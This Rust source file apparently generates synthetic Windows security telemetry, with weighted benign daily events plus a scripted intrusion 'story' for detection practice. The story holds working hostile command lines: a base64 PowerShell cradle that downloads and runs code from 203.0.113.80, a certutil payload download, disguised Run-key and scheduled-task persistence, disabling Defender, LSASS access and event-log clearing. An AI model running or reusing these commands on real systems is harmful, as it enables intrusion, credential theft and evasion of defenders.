//! The events: those of an ordinary day with their weights, and those of the story.

use super::{Body, Entry};

/// What most events say; an entry's own values come first.
pub(super) const DEFAULTS: &[(&str, &str)] = &[
    ("user", r"LARKSPUR\\<login>"),
    ("product", "Microsoft® Windows® Operating System"),
    ("company", "Microsoft Corporation"),
    ("description", "-"),
    ("original", "-"),
    ("directory", r"C:\\Windows\\system32\\"),
    ("integrity", "Medium"),
    ("parent", r"C:\\Windows\\explorer.exe"),
    ("parent_command", r"C:\\Windows\\Explorer.EXE"),
    ("trace", r"C:\\Windows\\System32\\KERNEL32.DLL+1<hex:4>"),
];

const SYSTEM: (&str, &str) = ("user", r"NT AUTHORITY\\SYSTEM");
const SERVICES: (&str, &str) = ("parent", r"C:\\Windows\\System32\\services.exe");
const SERVICES_COMMAND: (&str, &str) = ("parent_command", r"C:\\Windows\\system32\\services.exe");
const POWERSHELL: (&str, &str) =
    ("image", r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
const CMD: (&str, &str) = ("image", r"C:\\Windows\\System32\\cmd.exe");
const CHROME: (&str, &str) =
    ("image", r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe");
const OUTLOOK: (&str, &str) =
    ("image", r"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE");
const WINWORD: &str = r"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const SVCHOST: (&str, &str) = ("image", r"C:\\Windows\\System32\\svchost.exe");
const LSASS: (&str, &str) = ("target", r"C:\\Windows\\System32\\lsass.exe");
const DEFENDER: (&str, &str) = (
    "image",
    r"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe",
);

/// What happens every day. Much of it is administration that looks like an attack at first sight.
pub(super) const ORDINARY: &[(u32, Entry)] = &[
    (
        60,
        Entry {
            body: Body::ProcessCreate,
            values: &[
                CHROME,
                ("original", "chrome.exe"),
                ("description", "Google Chrome"),
                ("product", "Google Chrome"),
                ("company", "Google LLC"),
                (
                    "command",
                    r#"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id=<below:900>"#,
                ),
                ("parent", r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
                (
                    "parent_command",
                    r#"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""#,
                ),
            ],
        },
    ),
    (
        30,
        Entry {
            body: Body::ProcessCreate,
            values: &[
                ("image", WINWORD),
                ("original", "WinWord.exe"),
                ("description", "Microsoft Word"),
                ("product", "Microsoft Office"),
                (
                    "command",
                    r#"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\<login>\\Documents\\<pick:offer|minutes|manual|plan>-<below:90>.docx\" /o \"\""#,
                ),
            ],
        },
    ),
    (
        60,
        Entry {
            body: Body::ProcessCreate,
            values: &[
                SVCHOST,
                ("original", "svchost.exe"),
                ("description", "Host Process for Windows Services"),
                SYSTEM,
                ("integrity", "System"),
                SERVICES,
                SERVICES_COMMAND,
                (
                    "command",
                    r"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s <pick:Schedule|BITS|wuauserv|gpsvc>",
                ),
            ],
        },
    ),
    (
        14,
        Entry {
            body: Body::ProcessCreate,
            values: &[
                POWERSHELL,
                ("original", "PowerShell.EXE"),
                ("description", "Windows PowerShell"),
                SYSTEM,
                ("integrity", "System"),
                (
                    "command",
                    r#"powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\ProgramData\\Larkspur\\inventory.ps1\""#,
                ),
                ("parent", r"C:\\Windows\\System32\\svchost.exe"),
                ("parent_command", r"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
            ],
        },
    ),
    (
        14,
        Entry {
            body: Body::ProcessCreate,
            values: &[
                CMD,
                ("original", "Cmd.Exe"),
                ("description", "Windows Command Processor"),
                (
                    "command",
                    r#"C:\\Windows\\system32\\cmd.exe /c \"<pick:npm run build|git fetch --all|cargo test>\""#,
                ),
                (
                    "parent",
                    r"C:\\Users\\<login>\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
                ),
                (
                    "parent_command",
                    r#"\"C:\\Users\\<login>\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\""#,
                ),
            ],
        },
    ),
    (
        5,
        Entry {
            body: Body::ProcessCreate,
            values: &[
                ("image", r"C:\\Windows\\System32\\certutil.exe"),
                ("original", "CertUtil.exe"),
                ("description", "CertUtil.exe"),
                (
                    "command",
                    r"certutil.exe -hashfile C:\\Users\\<login>\\Downloads\\firmware-<below:90>.bin SHA256",
                ),
                ("parent", r"C:\\Windows\\System32\\cmd.exe"),
                ("parent_command", r"C:\\Windows\\system32\\cmd.exe"),
            ],
        },
    ),
    (
        5,
        Entry {
            body: Body::ProcessCreate,
            values: &[
                ("image", r"C:\\Windows\\System32\\schtasks.exe"),
                ("original", "schtasks.exe"),
                ("description", "Task Scheduler Configuration Tool"),
                SYSTEM,
                ("integrity", "System"),
                (
                    "command",
                    r#"schtasks.exe /Create /F /TN \"Larkspur\\Inventory\" /SC DAILY /TR \"C:\\Program Files\\Larkspur\\inventory.exe\" /RU SYSTEM"#,
                ),
                ("parent", r"C:\\Windows\\System32\\msiexec.exe"),
                ("parent_command", r"C:\\Windows\\system32\\msiexec.exe /V"),
            ],
        },
    ),
    (
        5,
        Entry {
            body: Body::ProcessCreate,
            values: &[
                ("image", r"C:\\Windows\\System32\\wevtutil.exe"),
                ("original", "wevtutil.exe"),
                ("description", "Eventing Command Line Utility"),
                SYSTEM,
                ("integrity", "System"),
                ("command", r"wevtutil.exe qe System /c:20 /f:text /rd:true"),
                ("parent", r"C:\\Windows\\System32\\cmd.exe"),
                ("parent_command", r"cmd.exe /c collect.cmd"),
            ],
        },
    ),
    (
        90,
        Entry {
            body: Body::NetworkConnect,
            values: &[CHROME, ("to", "198.51.100.<below:250>"), ("port", "443")],
        },
    ),
    (
        50,
        Entry {
            body: Body::NetworkConnect,
            values: &[OUTLOOK, ("to", "198.51.100.<below:250>"), ("port", "443")],
        },
    ),
    (
        30,
        Entry {
            body: Body::NetworkConnect,
            values: &[
                SVCHOST,
                ("user", r"NT AUTHORITY\\NETWORK SERVICE"),
                ("to", "10.20.1.<below:9>"),
                ("port", "<pick:53|88|389|445>"),
            ],
        },
    ),
    (
        4,
        Entry {
            body: Body::NetworkConnect,
            values: &[POWERSHELL, ("to", "10.20.1.<below:9>"), ("port", "5985")],
        },
    ),
    (
        90,
        Entry {
            body: Body::ImageLoad,
            values: &[
                SVCHOST,
                ("loaded", r"C:\\Windows\\System32\\<pick:wbemprox|perfos|taskschd|bcrypt>.dll"),
                ("original", "<pick:wbemprox|perfos|taskschd|bcrypt>.dll"),
                SYSTEM,
            ],
        },
    ),
    (
        40,
        Entry {
            body: Body::ProcessAccess,
            values: &[DEFENDER, LSASS, ("access", "0x1410"), SYSTEM],
        },
    ),
    (
        40,
        Entry {
            body: Body::ProcessAccess,
            values: &[SVCHOST, LSASS, ("access", "0x1000"), SYSTEM],
        },
    ),
    (
        30,
        Entry {
            body: Body::ProcessAccess,
            values: &[
                ("image", r"C:\\Windows\\System32\\taskmgr.exe"),
                ("target", r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
                ("access", "0x1410"),
            ],
        },
    ),
    (
        60,
        Entry {
            body: Body::FileCreate,
            values: &[
                CHROME,
                (
                    "file",
                    r"C:\\Users\\<login>\\Downloads\\<pick:datasheet|drawing|invoice>-<below:900>.pdf",
                ),
            ],
        },
    ),
    (
        40,
        Entry {
            body: Body::FileCreate,
            values: &[
                ("image", WINWORD),
                (
                    "file",
                    r"C:\\Users\\<login>\\AppData\\Local\\Temp\\~$<pick:offer|minutes|plan>-<below:90>.docx",
                ),
            ],
        },
    ),
    (
        40,
        Entry {
            body: Body::RegistrySet,
            values: &[
                SVCHOST,
                (
                    "key",
                    r"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\<sid>\\SequenceNumber",
                ),
                ("details", "DWORD (0x000000<hex:2>)"),
                SYSTEM,
            ],
        },
    ),
    (
        6,
        Entry {
            body: Body::RegistrySet,
            values: &[
                ("image", r"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe"),
                ("key", r"HKU\\<sid>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive"),
                (
                    "details",
                    r#"\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"#,
                ),
            ],
        },
    ),
    (
        80,
        Entry {
            body: Body::DnsQuery,
            values: &[
                CHROME,
                (
                    "query",
                    "<pick:www.larkspur.example|fleet.larkspur.example|mail.example.com|docs.example.org>",
                ),
                ("answer", "198.51.100.<below:250>"),
            ],
        },
    ),
    (
        60,
        Entry {
            body: Body::Logon,
            values: &[
                ("logon", "<pick:3|3|3|2|7>"),
                ("logon_process", "Kerberos"),
                ("package", "Kerberos"),
            ],
        },
    ),
    (50, Entry { body: Body::Logoff, values: &[] }),
    (20, Entry { body: Body::Privileges, values: &[] }),
    (6, Entry { body: Body::LogonFailed, values: &[] }),
    (
        30,
        Entry {
            body: Body::NewProcess,
            values: &[
                (
                    "image",
                    r"C:\\Windows\\System32\\<pick:conhost|dllhost|backgroundTaskHost|RuntimeBroker>.exe",
                ),
                (
                    "command",
                    r"C:\\Windows\\system32\\<pick:conhost|dllhost|backgroundTaskHost|RuntimeBroker>.exe -Embedding",
                ),
                ("parent", r"C:\\Windows\\System32\\svchost.exe"),
            ],
        },
    ),
];

/// The events of the story.
pub(crate) mod story {
    use super::{Body, CMD, Entry, LSASS, POWERSHELL, WINWORD};

    /// The command, in UTF-16 and base 64: fetches `http://203.0.113.80/u` and runs it.
    const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4ADAALwB1ACcAKQA=";
    const ENCODED_COMMAND: &str = "powershell.exe -nop -w hidden -enc <encoded>";
    const UPDATER: (&str, &str) = ("image", r"C:\\Users\\Public\\updater.exe");
    const FROM_POWERSHELL: (&str, &str) =
        ("parent", r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    const FROM_POWERSHELL_COMMAND: (&str, &str) = ("parent_command", ENCODED_COMMAND);

    pub(crate) const DOCUMENT: Entry = Entry {
        body: Body::FileCreate,
        values: &[
            ("image", r"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"),
            (
                "file",
                r"C:\\Users\\<login>\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QKX2M1A\\Invoice-48213.docm",
            ),
        ],
    };
    pub(crate) const OFFICE_SHELL: Entry = Entry {
        body: Body::ProcessCreate,
        values: &[
            POWERSHELL,
            ("original", "PowerShell.EXE"),
            ("description", "Windows PowerShell"),
            ("command", ENCODED_COMMAND),
            ("encoded", ENCODED),
            ("parent", WINWORD),
            (
                "parent_command",
                r#"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\<login>\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QKX2M1A\\Invoice-48213.docm\""#,
            ),
        ],
    };
    pub(crate) const BEACON: Entry = Entry {
        body: Body::NetworkConnect,
        values: &[POWERSHELL, ("to", "203.0.113.80"), ("port", "80")],
    };
    pub(crate) const DOWNLOAD: Entry = Entry {
        body: Body::ProcessCreate,
        values: &[
            ("image", r"C:\\Windows\\System32\\certutil.exe"),
            ("original", "CertUtil.exe"),
            ("description", "CertUtil.exe"),
            (
                "command",
                r"certutil.exe -urlcache -split -f http://203.0.113.80/updater.exe C:\\Users\\Public\\updater.exe",
            ),
            FROM_POWERSHELL,
            FROM_POWERSHELL_COMMAND,
            ("encoded", ENCODED),
        ],
    };
    pub(crate) const DROP: Entry = Entry {
        body: Body::FileCreate,
        values: &[
            ("image", r"C:\\Windows\\System32\\certutil.exe"),
            ("file", r"C:\\Users\\Public\\updater.exe"),
        ],
    };
    pub(crate) const RUN_KEY: Entry = Entry {
        body: Body::RegistrySet,
        values: &[
            POWERSHELL,
            ("key", r"HKU\\<sid>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"),
            ("details", r"C:\\Users\\Public\\updater.exe"),
        ],
    };
    pub(crate) const TASK: Entry = Entry {
        body: Body::ProcessCreate,
        values: &[
            ("image", r"C:\\Windows\\System32\\schtasks.exe"),
            ("original", "schtasks.exe"),
            ("description", "Task Scheduler Configuration Tool"),
            (
                "command",
                r#"schtasks.exe /create /tn \"OneDrive Sync Helper\" /tr C:\\Users\\Public\\updater.exe /sc minute /mo 15 /f"#,
            ),
            FROM_POWERSHELL,
            FROM_POWERSHELL_COMMAND,
            ("encoded", ENCODED),
        ],
    };
    pub(crate) const DEFENDER_OFF: Entry = Entry {
        body: Body::ProcessCreate,
        values: &[
            POWERSHELL,
            ("original", "PowerShell.EXE"),
            ("description", "Windows PowerShell"),
            ("integrity", "High"),
            ("command", r"powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true"),
            UPDATER_PARENT,
            ("parent_command", r"C:\\Users\\Public\\updater.exe"),
        ],
    };
    const UPDATER_PARENT: (&str, &str) = ("parent", r"C:\\Users\\Public\\updater.exe");
    pub(crate) const DUMP: Entry = Entry {
        body: Body::ProcessAccess,
        values: &[UPDATER, LSASS, ("access", "0x1010"), ("trace", "UNKNOWN(00000<HEX:11>)")],
    };
    pub(crate) const WHOAMI: Entry = Entry {
        body: Body::ProcessCreate,
        values: &[
            ("image", r"C:\\Windows\\System32\\whoami.exe"),
            ("original", "whoami.exe"),
            ("description", "whoami - displays logged on user information"),
            ("command", "whoami /all"),
            UPDATER_PARENT,
            ("parent_command", r"C:\\Users\\Public\\updater.exe"),
        ],
    };
    pub(crate) const CLEAR: Entry = Entry {
        body: Body::ProcessCreate,
        values: &[
            ("image", r"C:\\Windows\\System32\\wevtutil.exe"),
            ("original", "wevtutil.exe"),
            ("description", "Eventing Command Line Utility"),
            ("integrity", "High"),
            ("command", "wevtutil.exe cl <pick:Security|Security|System>"),
            ("parent", CMD.1),
            ("parent_command", r"cmd.exe /c C:\\Users\\Public\\c.cmd"),
        ],
    };
    pub(crate) const CLEARED: Entry = Entry { body: Body::LogCleared, values: &[] };
}
